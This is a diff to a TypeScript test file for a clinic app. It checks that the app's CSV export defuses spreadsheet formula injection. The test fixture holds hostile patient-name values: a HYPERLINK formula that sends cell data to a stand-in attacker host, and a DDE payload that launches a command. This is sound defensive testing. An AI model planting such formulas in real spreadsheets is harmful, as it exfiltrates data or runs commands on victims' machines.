@@ -74,6 +74,11 @@ function unzip(zip: Buffer): Map<string, Buffer> {
   return files;
 }
 
+/** A text cell as stored: the export puts one ' in front of text a spreadsheet could run as a formula. */
+function withoutFormulaQuote(cell: string | null): string | null {
+  return cell !== null && cell.startsWith("'") ? cell.slice(1) : cell;
+}
+
 /** RFC 4180, keeping the difference between an empty unquoted field (null) and "" (empty text). */
 function parseCsv(text: string): (string | null)[][] {
   const rows: (string | null)[][] = [];
@@ -283,7 +288,7 @@ describe('exporting the whole clinic', () => {
     backend.close();
   });
 
-  it('as CSV files in a ZIP, with a README, lossless (empty text and no value differ)', async () => {
+  it('as CSV files in a ZIP, with a README, lossless once the formula quote is removed (empty text and no value differ)', async () => {
     const { backend } = await clinic();
     const outcome = await must(backend, 'export.clinic', { format: 'csv' });
     if (outcome.kind !== 'download') throw new Error('expected a download');
@@ -296,8 +301,9 @@ describe('exporting the whole clinic', () => {
     for (const t of tables) {
       const text = files.get(`${t.name}.csv`)!.toString('utf8');
       expect(text.startsWith('\uFEFF')).toBe(true);
-      const [head, ...rows] = parseCsv(text.slice(1));
+      const [head, ...quoted] = parseCsv(text.slice(1));
       expect(head).toEqual(t.columns.map((c) => c.name));
+      const rows = quoted.map((r) => r.map(withoutFormulaQuote));
       const expected = exportedRows(db, t.name).map((r) =>
         r.map((v) => (v === null ? null : String(v as string | number))),
       );
@@ -319,6 +325,54 @@ describe('exporting the whole clinic', () => {
     fs.writeFileSync(file, zipBytes);
     const check = spawnSync('unzip', ['-t', file], { encoding: 'utf8' });
     if (!check.error) expect(check.stdout).toContain('No errors detected');
+    backend.close();
+  });
+
+  it('as CSV, no cell a spreadsheet would run as a formula: text starting with = + - @ tab or CR gets a quote, numbers stay numbers', async () => {
+    const backend = await readyBackend();
+    const hostile = {
+      givenName: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+      familyName: "@SUM(1+1)*cmd|' /C calc'!A0",
+      phone: '+44 7700 900123',
+      email: '',
+      recordNumber: 'RR-0009',
+      notes: "-2+3\nand more\n'quoted already",
+    };
+    const made = await must(backend, 'patients.create', patientInput(hostile));
+    const edited = await must(backend, 'patients.update', {
+      id: made.id,
+      expectedVersion: 1,
+      changes: patientInput({ ...hostile, notes: '=1+1 in the notes' }),
+    });
+    expect(edited.version).toBe(2);
+    const outcome = await must(backend, 'export.clinic', { format: 'csv' });
+    if (outcome.kind !== 'download') throw new Error('expected a download');
+    const files = unzip(await download(backend, outcome));
+    const text = files.get('patients.csv')!.toString('utf8');
+    const [head, ...rows] = parseCsv(text.slice(1));
+    const col = (name: string) => head!.indexOf(name);
+    const row = rows.find((r) => r[col('record_number')] === 'RR-0009')!;
+    expect(row[col('given_name')]).toBe(`'${hostile.givenName}`);
+    expect(row[col('family_name')]).toBe(`'${hostile.familyName}`);
+    expect(row[col('phone')]).toBe("'+44 7700 900123");
+    expect(row[col('notes')]).toBe("'=1+1 in the notes");
+    // Numbers are written as numbers, unquoted and never prefixed.
+    expect(text).toMatch(/,2,|,2\r\n/);
+    expect(row[col('version')]).toBe('2');
+    // No cell of any file begins with a formula character, whichever way it was quoted.
+    for (const [name, bytes] of files) {
+      if (!name.endsWith('.csv')) continue;
+      for (const r of parseCsv(bytes.toString('utf8').slice(1)).slice(1)) {
+        for (const cell of r) {
+          if (cell === null || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) continue;
+          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    }
+    // Undoing the rule gives the value exactly as stored.
+    const stored = await must(backend, 'patients.get', { id: made.id });
+    expect(withoutFormulaQuote(row[col('given_name')]!)).toBe(stored.givenName);
+    expect(withoutFormulaQuote(row[col('notes')]!)).toBe(stored.notes);
     backend.close();
   });
 
